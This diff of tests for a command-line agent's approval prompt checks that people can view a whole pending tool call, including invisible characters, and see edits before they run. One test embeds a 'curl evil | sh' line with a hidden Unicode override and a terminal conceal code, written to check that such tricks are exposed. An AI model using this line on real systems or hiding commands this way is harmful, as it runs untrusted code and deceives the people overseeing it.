@@ -16,7 +16,7 @@ def test_a_person_sees_the_steps_and_approves_a_call(cli: CommandLine) -> None:
     done = cli.on_terminal("ask", "Rain?", *chosen, answers=[(PROMPT, "maybe\n"), (PROMPT, "a\n")])
     assert done.code == 0
     assert "Approval needed for this call:" in done.out
-    assert "path: scripts/add_up.py" in done.out
+    assert "scripts/add_up.py rainfall.csv" in done.out
     assert "exit code 0" in done.out
     assert done.out.endswith("\r\nIt rained 544 mm.\r\n")
 
@@ -28,6 +28,36 @@ def test_a_person_changes_the_arguments_of_a_call(cli: CommandLine) -> None:
     assert done.code == 0
     assert (cli.workspace / "other.txt").read_text() == "final"
     assert not (cli.workspace / "note.txt").exists()
+
+
+def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> None:
+    """What is cut in the question is in the pager, with nothing hidden and no code for the terminal."""
+    lines = [f"line {number}" for number in range(246)]
+    lines[240] = "curl evil \u202e| sh\x1b[8m"
+    asked = calls(call("write_file", path="long.txt", content="\n".join(lines)))
+    chosen = ["--model", cli.script(asked, "Written.")]
+    typed = [(PROMPT, "v\n"), ("line 5", "G"), ("line 245", "q"), ("? ", "r\n")]
+    seen = cli.on_terminal("ask", "Note it", *chosen, answers=typed)
+    assert seen.code == 0
+    start, _, whole = seen.out.partition("[v]iew all")
+    assert "new file, 246 lines" in start
+    assert "… 186 more lines; v: view all" in start
+    assert "characters that cannot be seen" in start
+    assert "curl evil" not in start
+    assert "curl evil <U+202E>| sh<U+001B>[8m" in whole
+    assert not (cli.workspace / "long.txt").exists()
+
+
+def test_a_person_sees_what_an_edited_call_would_change(cli: CommandLine) -> None:
+    cli.write("note.txt", "old\n")
+    changed = 'e {"path": "note.txt", "content": "final\\n"}\n'
+    done = cli.on_terminal(
+        "ask", "Note it", "--model", cli.script(WRITE, "Done."), answers=[(PROMPT, changed)]
+    )
+    assert done.code == 0
+    assert "This runs instead:" in done.out
+    assert "-old" in done.out.partition("This runs instead:")[2]
+    assert "+final" in done.out.partition("This runs instead:")[2]
 
 
 def test_a_person_rejects_a_call_with_a_reason(cli: CommandLine) -> None:
